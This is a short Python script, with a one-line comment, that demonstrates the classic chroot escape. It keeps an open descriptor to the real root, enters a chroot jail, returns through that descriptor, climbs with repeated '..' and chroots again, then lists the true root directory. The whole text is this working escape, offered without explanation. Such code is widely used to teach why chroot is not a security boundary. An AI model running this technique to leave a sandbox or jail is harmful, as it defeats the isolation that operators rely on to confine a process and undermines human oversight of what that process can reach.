# Leaves a chroot by an open folder.

import os

root = os.open("/", os.O_RDONLY | os.O_DIRECTORY)
os.mkdir("/tmp/jail")
os.chroot("/tmp/jail")
os.fchdir(root)
os.chdir("../../../..")
os.chroot(".")
print(os.listdir("/"))
